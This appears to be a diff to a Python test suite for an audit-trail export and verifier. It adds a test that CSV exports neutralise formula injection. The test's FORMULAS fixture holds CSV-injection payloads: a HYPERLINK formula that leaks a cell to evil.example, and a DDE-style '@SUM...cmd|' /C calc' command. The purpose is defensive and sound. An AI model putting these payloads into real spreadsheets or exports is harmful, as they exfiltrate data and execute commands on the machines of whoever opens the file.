@@ -3,6 +3,7 @@ and PostgreSQL refusing to change history."""
 
 from __future__ import annotations
 
+import csv
 import itertools
 import json
 import os
@@ -47,7 +48,14 @@ def _verify(client: Any, auth: Any) -> dict[str, Any]:
 
 
 def test_chain_links_every_event(client: Any, auth: Any, trail: int) -> None:
-    assert _verify(client, auth) == {"valid": True, "checked": 7, "first_broken": None, "reason": None}
+    assert _verify(client, auth) == {
+        "valid": True,
+        "checked": 7,
+        "first_broken": None,
+        "reason": None,
+        "checkpoints": 0,
+        "anchored_through": None,
+    }
     items = client.get("/v1/audit", headers=auth("erin", "auditor")).json()["items"]
     assert [(e["seq"], e["action"], e["actor"]) for e in items] == [
         (1, "override.created", "alice"),
@@ -150,7 +158,14 @@ def test_a_tampered_export_is_caught(
     (tmp_path / "edited.jsonl").write_text("".join([*lines[:2], json.dumps(edited) + "\n", *lines[3:]]))
     assert verify(tmp_path / "edited.jsonl") == (
         1,
-        {"valid": False, "checked": 2, "first_broken": 3, "reason": "hash does not match content"},
+        {
+            "valid": False,
+            "checked": 2,
+            "first_broken": 3,
+            "reason": "hash does not match content",
+            "checkpoints": 0,
+            "anchored_through": None,
+        },
     )
     (tmp_path / "gap.jsonl").write_text("".join([*lines[:3], *lines[4:]]))
     code, result = verify(tmp_path / "gap.jsonl")
@@ -160,6 +175,55 @@ def test_a_tampered_export_is_caught(
     (tmp_path / "edited.txt").write_text(text.replace(",bob,,vote.approve,", ",eve,,vote.approve,"), newline="")
     code, result = verify(tmp_path / "edited.txt", "csv")
     assert (code, result["first_broken"]) == (1, 2)
+
+
+FORMULAS = {
+    "justification": '=HYPERLINK("https://evil.example/?leak="&A1,"TLSA details (click)")',
+    "plus": "+1 approved by phone",
+    "minus": "-1 from the quota, fine",
+    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "tab": "\t=1+1",
+    "cr": "\r=1+1",
+    "lf": "\n=1+1",
+    "quote": "'a comment that really starts with a quote",
+    "quotes": "''two of them",
+}
+
+
+def test_csv_cells_are_no_formulas_and_still_verify(
+    client: Any, engine: Engine, auth: Any, make_override: Any, tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    """OWASP CSV injection: no cell starts with = + - @ tab CR LF; the verifier undoes the `'` exactly."""
+    from app.audit.export import parse_export
+    from app.audit.service import record
+    from app.core.db import transaction
+
+    make_override(justification=FORMULAS["justification"])
+    with transaction(engine) as session:  # text the API would strip or refuse can still reach the trail
+        for name, text in FORMULAS.items():
+            if name != "justification":
+                record(session, actor=text, via=text, action="override.commented", comment=text)
+    jsonl, csv_file = tmp_path / "audit.jsonl", tmp_path / "audit.csv"
+    _export(client, auth, "jsonl", jsonl)
+    _export(client, auth, "csv", csv_file)
+
+    with csv_file.open(encoding="utf-8", newline="") as handle:
+        rows = list(csv.reader(handle))[1:]
+    cells = [cell for row in rows for cell in row]
+    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r", "\n"))]
+    comments = [row[8] for row in rows]
+    assert comments[0] == "'" + FORMULAS["justification"]
+    assert comments[-2:] == ["''a comment that really starts with a quote", "'''two of them"]
+    assert rows[-1][2] == rows[-1][3] == "'''two of them"  # actor and via too: every cell
+
+    # Read back, every value is what was recorded: the same events as the JSON Lines export.
+    with csv_file.open(encoding="utf-8", newline="") as handle:
+        from_csv = list(parse_export(handle, "csv"))
+    with jsonl.open(encoding="utf-8") as handle:
+        assert from_csv == list(parse_export(handle, "jsonl"))
+    assert [e["comment"] for e in from_csv[1:]] == [t for n, t in FORMULAS.items() if n != "justification"]
+    assert cli_main(["audit", "verify", "--file", str(csv_file)]) == 0, capsys.readouterr()
+    assert json.loads(capsys.readouterr().out)["valid"] is True
 
 
 def _raw(engine: Engine, statement: str, **params: Any) -> None:
@@ -178,6 +242,8 @@ def test_tampering_in_the_database_is_pointed_at(
         "checked": 2,
         "first_broken": 3,
         "reason": "hash does not match content",
+        "checkpoints": 0,
+        "anchored_through": None,
     }
     env = {"TLSO_ENV": "test", "TLSO_DATABASE_URL": database_url}
     code, result = _finish(_cli(env=env))
